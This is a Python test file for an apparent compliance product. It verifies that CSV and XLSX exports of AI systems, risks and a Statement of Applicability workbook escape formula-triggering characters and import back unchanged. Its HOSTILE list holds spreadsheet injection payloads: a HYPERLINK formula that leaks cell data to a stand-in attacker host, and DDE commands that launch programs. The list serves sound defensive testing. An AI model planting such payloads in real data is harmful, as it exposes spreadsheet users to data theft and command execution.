"""Issue 11, attack 6: exported spreadsheets carry no formulas (DESIGN.md security rule 3).

Records whose text starts with each character that makes a spreadsheet evaluate a cell (``=``, ``+``, ``-``, ``@``,
tab, carriage return) are exported through every CSV and XLSX export of the product: ``aims systems export`` and
``aims risks export`` (CSV), the Statement of Applicability workbook through the CLI, the API and the page's
download. Each file is opened with ``csv`` / ``openpyxl`` and every cell is checked; the CSV files import back to
the original values.
"""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from typer.testing import CliRunner

from openaims.accounts.choices import Role
from openaims.cli.main import app
from openaims.controls import services as controls
from openaims.controls.models import SoAEntry
from openaims.inventory.models import AISystem
from openaims.inventory.services import ai_system_create
from openaims.policy.cells import TRIGGERS, safe_cell, unescape_cell
from openaims.risk.models import Risk
from openaims.risk.services import risk_create

pytestmark = pytest.mark.django_db

runner = CliRunner()

#: One text per trigger character, as an attacker would name a record.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Text that already starts with quotes: exported with one more, imported back unchanged.
QUOTED = "'=already quoted"


def aims(*args: str):
    return runner.invoke(app, list(args))


def _neutral(value) -> bool:
    """A cell no spreadsheet evaluates: not text, or text not starting with a trigger character."""
    return not isinstance(value, str) or value[:1] not in TRIGGERS


def _read(path) -> str:
    with path.open(encoding="utf-8", newline="") as handle:  # as a CSV reader should: line ends as written
        return handle.read()


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_helper():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text and unescape_cell(safe_cell(text)) == text
    assert safe_cell(QUOTED) == "''=already quoted" and unescape_cell(safe_cell(QUOTED)) == QUOTED
    for value in (-5, 3.5, True, None, "", "'", "plain", "a=b", " =1"):
        assert safe_cell(value) == value and unescape_cell(value) == value
    assert unescape_cell("'quoted by hand") == "'quoted by hand"  # only a quote we would have added is removed


@pytest.fixture
def hostile_inventory(owner_actor):
    systems = [
        ai_system_create(actor=owner_actor, name=text, purpose=text, tags=["@team", "credit"])
        for text in [*HOSTILE, QUOTED]
    ]
    return systems


def test_systems_csv_export_neutralizes_every_cell_and_imports_back(hostile_inventory, owner_actor, tmp_path):
    path = tmp_path / "systems.csv"
    result = aims("systems", "export", "--format", "csv", "--out", str(path), "--org", "acme")
    assert result.exit_code == 0, result.output
    text = _read(path)
    cells = _csv_cells(text)
    assert [c for c in cells if not _neutral(c)] == []
    for hostile in HOSTILE:
        assert "'" + hostile in cells  # the name, escaped, is there
    assert "''=already quoted" in cells and "'@team; credit" in cells  # a list column, joined, then escaped
    # Standard output carries the same cells.
    printed = aims("systems", "export", "--format", "csv", "--org", "acme")
    assert printed.exit_code == 0 and [c for c in _csv_cells(printed.stdout) if not _neutral(c)] == []

    # Imported back (after the originals are gone), every value is the original one.
    originals = {s.name: (s.purpose, s.tags) for s in AISystem.objects.filter(organization=owner_actor.organization)}
    AISystem.objects.filter(organization=owner_actor.organization).delete()
    imported = aims("systems", "import", str(path), "--org", "acme", "--json")
    assert imported.exit_code == 0, imported.output
    assert json.loads(imported.stdout)["created"] == len(originals)
    again = {s.name: (s.purpose, s.tags) for s in AISystem.objects.filter(organization=owner_actor.organization)}
    assert again == originals


def test_risks_csv_export_neutralizes_every_cell_and_imports_back(
    hostile_inventory, owner_actor, other_actor, tmp_path
):
    controls.soa_ensure_entries(actor=owner_actor)
    # Linked by name: a list column whose cell starts with "=" (names with leading whitespace would be trimmed).
    system = AISystem.objects.get(organization=owner_actor.organization, name=HOSTILE[0])
    for text in [*HOSTILE, QUOTED]:
        risk_create(
            actor=owner_actor,
            title=text,
            description=text,
            consequences=text,
            treatment_plan=text,
            ai_systems=[system],
            likelihood=3,
            consequence=4,
            risk_source="C.3.4",
        )
    path = tmp_path / "risks.csv"
    result = aims("risks", "export", "--format", "csv", "--out", str(path), "--org", "acme")
    assert result.exit_code == 0, result.output
    cells = _csv_cells(_read(path))
    assert [c for c in cells if not _neutral(c)] == []
    for hostile in HOSTILE:
        assert "'" + hostile in cells
    assert "3" in cells and "4" in cells  # numbers stay numbers

    # Into another organization with the same systems: titles, texts and linked systems come back unchanged.
    controls.soa_ensure_entries(actor=other_actor)
    for text in [*HOSTILE, QUOTED]:
        ai_system_create(actor=other_actor, name=text, purpose="Theirs.")
    imported = aims("risks", "import", str(path), "--org", "globex", "--json")
    assert imported.exit_code == 0, imported.output
    theirs = {
        r.title: (r.description, r.consequences, r.treatment_plan, [s.name for s in r.ai_systems.all()])
        for r in Risk.objects.filter(organization=other_actor.organization)
    }
    assert theirs == {text: (text, text, text, [HOSTILE[0]]) for text in [*HOSTILE, QUOTED]}


@pytest.fixture
def hostile_soa(owner_actor, members):
    controls.soa_ensure_entries(actor=owner_actor)
    entries = list(SoAEntry.objects.filter(organization=owner_actor.organization).order_by("control_id"))
    for entry, text in zip(entries, HOSTILE * (len(entries) // len(HOSTILE) + 1), strict=False):
        controls.soa_entry_update(actor=owner_actor, soa_entry=entry, justification=text)
    for n, text in enumerate(HOSTILE):
        controls.soa_entry_create(actor=owner_actor, control_id=f"ORG-{n}", title=text, justification=text)
    return owner_actor


def _workbook_problems(content: bytes) -> tuple[list, int]:
    """Cells that a spreadsheet would evaluate, and how many text cells there are."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    bad, texts = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or not _neutral(cell.value):
                    bad.append((sheet.title, cell.coordinate, cell.value))
                texts += isinstance(cell.value, str)
    return bad, texts


def test_soa_workbook_neutralizes_every_cell_from_cli_api_and_page(hostile_soa, api_as, ui_as, tmp_path):
    path = tmp_path / "soa.xlsx"
    result = aims("soa", "export", "--format", "xlsx", "--out", str(path), "--org", "acme")
    assert result.exit_code == 0, result.output
    downloads = {
        "cli": path.read_bytes(),
        "api": api_as(Role.AUDITOR).get("/api/v1/soa-export", {"format": "xlsx"}),
        "page": ui_as(Role.AUDITOR).get("/soa/export/", {"format": "xlsx"}),
    }
    for where, answer in downloads.items():
        content = answer if isinstance(answer, bytes) else answer.content
        if not isinstance(answer, bytes):
            assert answer.status_code == 200, (where, answer.content[:200])
        bad, texts = _workbook_problems(content)
        assert bad == [] and texts > 50, where
        values = [
            c
            for s in openpyxl.load_workbook(io.BytesIO(content)).worksheets
            for r in s.iter_rows(values_only=True)
            for c in r
        ]
        for hostile in HOSTILE:
            assert "'" + hostile in values, (where, hostile)
